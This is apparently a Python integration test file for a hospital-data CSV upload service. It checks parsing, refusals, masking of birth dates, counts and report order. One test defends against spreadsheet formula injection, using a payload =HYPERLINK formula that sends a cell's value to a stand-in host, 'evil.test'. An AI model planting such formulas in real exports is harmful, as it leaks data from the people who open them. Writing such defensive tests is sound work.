"""Files as they arrive and reports as users open them, on the whole stack: every file ends
as stored rows or a refusal with a reason, at the first attempt; free text is stored as
typed and neutralised only in what the platform writes for a spreadsheet; counts agree
with the report; a masked column is never spelled out in a message."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from typing import Any

import pytest

from hdhub.common.objectstore import FolderStore
from hdhub.common.spreadsheet import FORMULA_STARTS
from hdhub.uploads.domain.batches import Batches
from hdhub.uploads.dropfolder import DropFolder
from services.uploads.tests.integration.test_uploads_api import HIS, csv_bytes, finished, report, upload
from tests.support.samples import record
from tests.support.stack import Stack


def cells(raw: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(raw.lstrip("\ufeff")), delimiter=";") for cell in row]


def runnable(cell: str) -> bool:
    """Would a spreadsheet run this cell? (A plain signed number is just a number.)"""
    return cell.startswith(FORMULA_STARTS) and not cell.lstrip("+-").replace(".", "").isdigit()


async def test_old_mac_line_endings_are_read_like_any_other(stack: Stack) -> None:
    rows = [record(), record(MS_HEIGHT="tall"), record()]
    data = csv_bytes(rows).replace(b"\r\n", b"\r")  # Excel for Mac's "CSV (Macintosh)"
    started = time.monotonic()
    done = await finished(stack, (await upload(stack, data))["id"])
    assert time.monotonic() - started < 15
    assert done["status"] == "done" and done["counts"]["created"] == 2 and done["counts"]["rejected"] == 1
    errors = await report(stack, done["id"], "errors")
    assert [(e["line"], e["record"], e["column"], e["rule"]) for e in errors] == [
        ("3", "2", "MS_HEIGHT", "type")
    ]


async def test_a_file_the_reader_cannot_handle_is_refused_with_a_reason_at_the_first_attempt(
    stack: Stack, monkeypatch: pytest.MonkeyPatch
) -> None:
    def reader_bug(self: Batches, record: Any, last: bool) -> Any:
        raise ValueError("a bug in the reader, quoting 85.04.02-169.32")

    monkeypatch.setattr(Batches, "_inspect", reader_bug)
    started = time.monotonic()
    created = await upload(stack, csv_bytes([record()]), lang="nl")
    done = await finished(stack, created["id"])
    assert time.monotonic() - started < 15  # not retried for minutes until parked
    assert done["status"] == "done" and done["nothing_stored"] is True
    assert done["steps"]["validity_check"] == "errors" and done["counts"]["errors"] == 1
    [refusal] = done["findings"]
    assert refusal["rule"] == "unreadable" and refusal["severity"] == "error"
    errors = await report(stack, done["id"], "errors")
    assert [e["rule"] for e in errors] == ["unreadable"]
    assert "niets bewaard" in errors[0]["message"]  # in the uploader's language


async def test_free_text_is_stored_as_typed_and_neutralised_only_in_reports(stack: Stack) -> None:
    comment = " =see the letter; +2 stents @ward 5\t"
    too_long = '=HYPERLINK("http://evil.test/?"&A1,"details")' + "x" * 100  # over the DCD's 100
    rows = [
        record(CD_INDICATION="other", TX_INDICATION_OTHER=comment),
        record(CD_INDICATION="other", TX_INDICATION_OTHER=too_long),
        record(CD_DISCH_DEST="=1+1"),  # a code can never hold a formula: still refused
        record(MS_WEIGHT="@SUM(A1)"),  # nor a number
    ]
    done = await finished(stack, (await upload(stack, csv_bytes(rows)))["id"])
    assert done["counts"]["created"] == 1 and done["counts"]["rejected"] == 3, done
    [stored] = await report(stack, done["id"], "success")
    r = await stack.client.get(
        f"/api/v1/registrations/{stored['registration_id']}", headers=await stack.headers(HIS)
    )
    assert r.json()["values"]["TX_INDICATION_OTHER"] == comment  # verbatim, spaces and all
    errors = sorted(await report(stack, done["id"], "errors"), key=lambda e: int(e["line"]))
    assert [(e["line"], e["column"], e["rule"], e["value"]) for e in errors] == [
        ("3", "TX_INDICATION_OTHER", "constraint", "'" + too_long),
        ("4", "CD_DISCH_DEST", "formula_like", "'=1+1"),
        ("5", "MS_WEIGHT", "formula_like", "'@SUM(A1)"),
    ]
    raw = (
        await stack.client.get(
            f"/api/v1/uploads/{done['id']}/reports/errors.csv", headers=await stack.headers(HIS)
        )
    ).text
    assert not [c for c in cells(raw) if runnable(c)]


@pytest.mark.parametrize("lang", ["en", "fr", "nl", "de"])
async def test_a_masked_column_is_never_spelled_out_in_a_message(stack: Stack, lang: str) -> None:
    birth = record(DT_PAT_DOB="31258")  # Excel's serial number for 30/07/1985
    hospitalised = record(DT_HOSPZ="45678")  # not personal: the message may help with the date
    done = await finished(stack, (await upload(stack, csv_bytes([birth, hospitalised]), lang=lang))["id"])
    errors = await report(stack, done["id"], "errors")
    assert [(e["column"], e["rule"], e["value"]) for e in errors] == [
        ("DT_PAT_DOB", "excel_date_serial", "*****"),
        ("DT_HOSPZ", "excel_date_serial", "45678"),
    ]
    assert "1985" not in errors[0]["message"] and "{" not in errors[0]["message"] and errors[0]["message"]
    assert "21/01/2025" in errors[1]["message"]
    raw = (
        await stack.client.get(
            f"/api/v1/uploads/{done['id']}/reports/errors.csv", headers=await stack.headers(HIS)
        )
    ).text
    assert "1985" not in raw and "31258" not in raw


async def test_a_missing_required_column_refuses_the_file_and_absent_optional_ones_say_nothing(
    stack: Stack,
) -> None:
    full = record()
    optional = ("IDC_PAT", "MS_LVEF", "MS_CREAT")  # CD_DISCH_DEST: required when alive
    fewer = {k: v for k, v in full.items() if k not in optional}
    fewer["TX_PAT_LAST_NAME"], fewer["TX_PAT_FIRST_NAME"] = "Peeters", "An"  # no SSIN: names then
    done = await finished(stack, (await upload(stack, csv_bytes([fewer])))["id"])
    assert done["findings"] == [] and done["counts"]["created"] == 1, await report(
        stack, done["id"], "errors"
    )
    assert done["counts"]["errors"] == done["counts"]["warnings"] == 0
    missing = {k: v for k, v in full.items() if k != "MS_WEIGHT"}
    done = await finished(stack, (await upload(stack, csv_bytes([missing]), lang="fr"))["id"])
    assert done["nothing_stored"] is True and done["counts"]["created"] == 0
    assert done["steps"]["validity_check"] == "errors" and done["steps"]["upload"] == "errors"
    [finding] = done["findings"]
    assert (finding["rule"], finding["severity"], finding["column"]) == (
        "missing_column",
        "error",
        "MS_WEIGHT",
    )
    assert done["counts"]["errors"] == 1
    [line] = await report(stack, done["id"], "errors")
    assert (line["rule"], line["severity"]) == ("missing_column", "error")
    assert "MS_WEIGHT" in line["message"] and "chaque enregistrement" in line["message"]


async def test_counts_agree_with_the_findings_and_the_report(stack: Stack) -> None:
    rows = [
        record(MS_WEIGHT="72,5"),  # read, with a file-level decimal_comma warning
        record(MS_HEIGHT="tall", MS_WEIGHT="abc"),  # one row, two errors
        record(DT_HOSPZ="45678"),  # set aside, one error
        record(TX_INDICATION_OTHER="not asked"),  # stored, with a not_relevant warning
    ]
    done = await finished(stack, (await upload(stack, csv_bytes(rows, sep=",")))["id"])
    errors = await report(stack, done["id"], "errors")
    by_severity = {s: sum(e["severity"] == s for e in errors) for s in ("error", "warning")}
    counts = done["counts"]
    assert (counts["errors"], counts["warnings"]) == (by_severity["error"], by_severity["warning"]) == (3, 3)
    assert counts["rows_with_errors"] == counts["rejected"] == 2 and counts["created"] == 2
    file_level = {f["rule"]: f["severity"] for f in done["findings"]}
    assert file_level == {"comma_separator": "warning", "decimal_comma": "warning"}
    assert done["steps"]["validity_check"] == "errors"


async def test_the_error_report_is_in_line_order(stack: Stack) -> None:
    rows = [
        record(),
        record(CD_PAT_SEX="Q"),  # line 3: refused by the engine
        record(DT_HOSPZ="45678"),  # line 4: set aside here, before the engine is asked
        record(MS_HEIGHT="tall"),  # line 5: refused by the engine
    ]
    done = await finished(stack, (await upload(stack, csv_bytes(rows)))["id"])
    errors = await report(stack, done["id"], "errors")
    assert [e["line"] for e in errors] == ["3", "4", "5"]
    # The seed's steps: the validity check found errors in rows; the upload stored the rest.
    assert done["steps"]["validity_check"] == "errors" and done["steps"]["upload"] == "warnings"


async def test_nothing_stored_when_every_row_is_rejected(stack: Stack) -> None:
    done = await finished(
        stack, (await upload(stack, csv_bytes([record(MS_HEIGHT="tall")]), validation="none"))["id"]
    )
    assert done["counts"]["created"] == done["counts"]["updated"] == 0 and done["counts"]["rejected"] == 1
    assert done["nothing_stored"] is True


async def test_results_of_the_drop_folder_keep_rows_apart_and_run_nothing(
    stack: Stack, tmp_path: Any
) -> None:
    """A cell written as typed, with a line break, quotes and accents, does not shift the
    RESULTS lines that follow it; nothing in RESULTS is a formula."""
    uploads = stack.service("uploads").uploads
    uploads.settings.dropfolder_settle_seconds = 0.0
    drop = DropFolder(uploads, FolderStore(tmp_path / "dropfolder"), "")
    name = "HD_DCD_submcsv_HDBP0012_ANGIO_HOSP_1.0.0_20261201.csv"
    long_text = '=Renée "dit"\r\nsuite: ' + "é" * 40000  # over 100 characters, over a 64 KB chunk
    rows = [record(CD_INDICATION="other", TX_INDICATION_OTHER=long_text), record(MS_HEIGHT="tall"), record()]
    await drop.store.put(f"az-demo/{name}", csv_bytes(rows))
    key = f"az-demo/RESULTS/{name[:-4]}_RESULTS.csv"
    for _ in range(400):
        await drop.scan()
        await drop.process()
        if await drop.store.stat(key) is not None:
            break
        await asyncio.sleep(0.05)
    raw = (await drop.store.read(key)).decode("utf-8")
    lines = list(csv.DictReader(io.StringIO(raw), delimiter=";"))
    assert [(r["line"], r["result"], r["column"], r["rule"]) for r in lines] == [
        ("5", "Success", "", ""),
        ("2", "Error", "TX_INDICATION_OTHER", "constraint"),
        ("4", "Error", "MS_HEIGHT", "type"),
    ]
    assert not [c for c in cells(raw) if runnable(c)]
